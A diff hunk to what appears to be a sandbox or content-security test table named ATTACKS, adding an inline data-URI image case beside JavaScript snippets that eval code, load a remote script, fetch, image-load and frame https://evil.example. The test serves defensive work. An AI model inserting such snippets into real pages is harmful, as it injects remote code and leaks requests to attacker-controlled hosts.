@@ -72,6 +72,7 @@ ATTACKS = {
     "eval": "setTimeout(() => eval('ran()'), 0)",
     "a script of another host": "document.head.append(Object.assign(make('script'), "
     "{src: use('https://evil.example/x.js')}))",
+    "a picture inside of a page": "new Image().src = 'data:image/png;base64,AAAA'",
     "a picture of another host": "new Image().src = 'https://evil.example/x.png'",
     "a request to another host": "fetch('https://evil.example/').catch(() => 0)",
     "a frame": "document.body.append(Object.assign(make('iframe'), {src: 'https://evil.example/'}))",
